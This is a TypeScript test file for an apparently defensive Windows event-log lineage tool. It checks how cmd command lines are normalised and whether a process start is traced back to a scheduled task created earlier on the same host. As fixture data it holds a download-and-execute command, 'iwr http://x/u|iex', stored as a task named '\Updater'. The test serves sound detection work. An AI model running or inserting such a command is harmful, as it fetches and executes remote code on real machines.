import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ProcessStartEvent, ShellEvent } from '../../src/core/index.js';
import { Lineage } from '../../src/lineage/index.js';
import { canonicalCommand } from '../../src/lineage/persistence.js';

test('canonical commands: %COMSPEC%, folders, .exe, quotes, spacing and case do not matter', () => {
  assert.equal(canonicalCommand('%COMSPEC% /c  "whoami"'), 'cmd /c whoami');
  assert.equal(canonicalCommand('C:\\Windows\\system32\\cmd.exe /c whoami'), 'cmd /c whoami');
  assert.notEqual(canonicalCommand('cmd /c whoami'), canonicalCommand('cmd /c hostname'));
});

test('a shell whose command is the action of a task created earlier on the host is that task running', () => {
  const l = new Lineage();
  const ref = { file: 'f', record: 1, channel: 'Security', eventId: 4698 };
  l.process({ kind: 'task_created', time: 1000, host: 'H', taskName: '\\Updater', command: 'C:\\Windows\\System32\\cmd.exe /c "iwr http://x/u|iex"', process: {}, event: ref, raw: {} } as ShellEvent, []);
  const run = (host: string, cmd: string, time = 60_000): ProcessStartEvent => {
    const ev: ProcessStartEvent = { kind: 'process_start', time, host, process: { pid: 9, image: 'C:\\Windows\\System32\\cmd.exe', commandLine: cmd }, parent: { pid: 8, image: 'C:\\Windows\\System32\\svchost.exe' }, event: { ...ref, eventId: 4688 }, raw: {} };
    l.process(ev, []);
    return ev;
  };
  assert.deepEqual(run('h', 'cmd.exe /c iwr http://x/u|iex').launchedBy, { kind: 'scheduled_task', name: '\\Updater', createdMs: 1000, event: ref });
  assert.equal(run('H', 'cmd.exe /c whoami').launchedBy, undefined);
  assert.equal(run('OTHER', 'cmd.exe /c iwr http://x/u|iex').launchedBy, undefined, 'another host');
});
